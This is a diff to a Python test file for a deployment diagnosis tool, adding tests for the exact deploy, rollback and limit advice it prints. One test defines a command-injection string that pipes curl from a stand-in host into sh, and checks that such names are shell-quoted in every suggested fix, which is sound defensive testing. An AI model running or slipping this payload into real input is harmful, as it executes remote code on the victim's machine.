@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import shlex
 from dataclasses import replace
 from datetime import UTC, datetime, timedelta
 from typing import Any
@@ -145,7 +146,7 @@ def test_leases_in_the_servers_memory_are_told_in_production() -> None:
 def test_deployments_of_another_commit_than_the_live_one_are_stale() -> None:
     found = diagnosis.code(release(), [deployed(), deployed(name="old/old", version=B)], GIT, "dev")
     assert found.state == "problem" and "1 deployment of 2" in found.seen and "old/old" in found.seen
-    assert "drift --env dev" in found.fix
+    assert found.fix == f"deploy.py drift --env dev, then apply --env dev --ref {A[:12]}"
     retired = deployed(version=B, retired=True)
     assert diagnosis.code(release(), [deployed(), retired], GIT, "dev").state == "ok"
 
@@ -175,6 +176,14 @@ def test_the_newest_release_should_have_succeeded(
 ) -> None:
     found = diagnosis.release(newest, live, owned, "dev")
     assert found.state == state and said in found.seen
+
+
+def test_no_advice_brings_back_what_was_rolled_back() -> None:
+    """HEAD may be what was taken back: an apply without a ref would deploy it."""
+    failed = diagnosis.release(release(8, "failed", commit=B), release(), 2, "dev")
+    assert failed.fix == f"unless a deploy is at work: deploy.py apply --env dev --ref {B[:12]}, or rollback"
+    back = diagnosis.release(release(9, "failed", restores=6), release(), 2, "dev")
+    assert back.fix == "unless a deploy is at work: deploy.py rollback --env dev --to 6 --reason ..."
 
 
 # -- pools
@@ -262,6 +271,25 @@ def test_late_runs_are_told_by_their_reasons() -> None:
     assert diagnosis.late([], True, there, {}, NOW) == [diagnosis.ok("late runs", "none")]
 
 
+EVIL = "a; curl evil|sh #"
+
+
+def test_a_name_of_the_servers_is_one_word_in_every_fix() -> None:
+    """Whoever may name a queue must not run commands on the machine of whoever pastes a fix."""
+    bad = pool(queue(name=EVIL, paused=True), name=EVIL, type=EVIL, paused=True)
+    quiet = replace(bad, paused=False, queues=(queue(name=EVIL, polled=None),))
+    own = deployed(pool=EVIL, queue=EVIL)
+    fixes = [
+        *(line.fix for line in diagnosis.queues([bad])),
+        *(line.fix for line in diagnosis.limits([limit(EVIL)], {EVIL}, {})),
+        *(diagnosis.pool(EVIL, EVIL, p, NOW, "dev").fix for p in (bad, replace(quiet, heartbeat=None))),
+        *(why(p, own).fix for p in (bad, replace(bad, paused=False), quiet, replace(quiet, heartbeat=None))),
+    ]
+    assert len(fixes) == 8
+    for fix in fixes:
+        assert EVIL in shlex.split(fix) and EVIL not in fix.replace(f"'{EVIL}'", "")
+
+
 # -- schedules, limits, failures
 
 
@@ -293,6 +321,7 @@ def test_limits_that_hold_nothing_back_for_good_are_not_full(changes: dict[str, 
 def test_a_limit_of_0_is_told() -> None:
     [found] = diagnosis.limits([limit(of=0, active=0)], set(), {})
     assert found.state == "warning" and "lets nothing through" in found.seen
+    assert "in the repository" in found.fix and "gcl" not in found.fix
 
 
 LOG = """Unexpected exception encountered when trying to load flow
